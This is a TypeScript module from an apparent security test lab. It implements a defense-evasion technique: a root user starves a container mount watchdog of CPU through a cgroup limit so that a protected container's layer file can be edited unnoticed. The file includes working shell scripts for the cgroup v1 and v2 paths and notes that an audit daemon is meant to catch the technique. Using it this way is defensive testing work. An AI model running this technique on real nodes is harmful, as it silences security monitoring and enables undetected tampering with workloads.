/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, for T1525 and
 * T1565.001): root on the node starves the mount watchdog of CPU instead of
 * stopping it, then edits a layer file of a running protected container in
 * place. Root makes a cgroup of its own below the node's in the CPU
 * controller, allows it 1 ms of CPU per second (cgroup v1
 * `cpu.cfs_quota_us` over `cpu.cfs_period_us`; v2 `cpu.max`) and moves the
 * watchdog's process into it. The process keeps its pid, start time and
 * state, and wakes as always; it just gets 0.1 % of one CPU, so a
 * re-verification of a layer that takes it tens of milliseconds takes it
 * tens of seconds. No signal, no freezer.
 *
 * What must catch it: the audit daemon, which latched on the watchdog's
 * cgroups when it found it and takes a thread moved out of them for a
 * watchdog that no longer runs as it did (lab/audit/node/defence-liveness.ts),
 * naming the containers left unwatched. Not covered, on purpose: a CPU
 * limit on the node's own cgroup, which slows every process of the node
 * alike (the attacker's, containerd, the containers).
 *
 * The attack gives the starved watchdog one re-verification period to
 * report the edit (its reports are evidence, not a verdict: `caughtBy` is
 * audit); then the harness moves it back and removes the cgroup. Only the v1 path runs on the lab's hosts (cgroup v1,
 * FACTS.md); the v2 path is written to the kernel's interface and not
 * exercised here.
 */
import { LabError } from '../../errors.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import type { AttackErrorCode } from './common.ts';
import { tamperWithoutWatchdog, type WatchdogSilencer } from './watchdog-kill.ts';

/** The attacker's cgroup, below the node's own (its cgroup namespace's root). */
const CGROUP = 'il-attacker-cpu';

/** $1 the cgroup's name, then the pids: limits the cgroup to 1 ms of CPU per second and moves them into it; prints v1 or v2. */
const STARVE = `set -e
g=$1; shift
if [ -d /sys/fs/cgroup/cpu ]; then
  d=/sys/fs/cgroup/cpu/$g; mkdir -p "$d"
  echo 1000000 > "$d/cpu.cfs_period_us"; echo 1000 > "$d/cpu.cfs_quota_us"
  v=v1
else
  d=/sys/fs/cgroup/$g; mkdir -p "$d"
  echo '1000 1000000' > "$d/cpu.max"
  v=v2
fi
for p; do echo "$p" > "$d/cgroup.procs"; done
echo "$v"`;

/** $1 the cgroup's name: moves its processes back to the node's cgroup and removes it. */
const RELEASE = `g=$1
if [ -d /sys/fs/cgroup/cpu ]; then top=/sys/fs/cgroup/cpu; else top=/sys/fs/cgroup; fi
for p in $(cat "$top/$g/cgroup.procs"); do echo "$p" > "$top/cgroup.procs"; done
rmdir "$top/$g"`;

export const cpuStarving: WatchdogSilencer = {
  done: 'limited to 0.1 % of a CPU by a cgroup',
  stillRuns: true,
  async apply(node: LabNodeHandle, pids: readonly number[]) {
    if (pids.length === 0) return {};
    const r = await node.exec.run(['sh', '-c', STARVE, 'starve', CGROUP, ...pids.map(String)]);
    if (r.exitCode !== 0) {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `could not limit the watchdog (pid ${pids.join(', ')}) on ${node.name} to 0.1 % of a CPU: ${r.stderr.toString().trim() || `exit ${r.exitCode}`}`);
    }
    return { cgroup: CGROUP, cpu: '1 ms per 1 s', controller: r.stdout.toString().trim() };
  },
  async release(node: LabNodeHandle) {
    const r = await node.exec.run(['sh', '-c', RELEASE, 'release', CGROUP]);
    if (r.exitCode !== 0) throw new Error(`could not move the watchdog out of its cgroup ${CGROUP} on ${node.name}: ${r.stderr.toString().trim()}`);
  },
};

export const watchdogCpuStarve: Technique = {
  name: 'watchdog-cpu-starve',
  run: (ctx) => tamperWithoutWatchdog(ctx, cpuStarving),
};
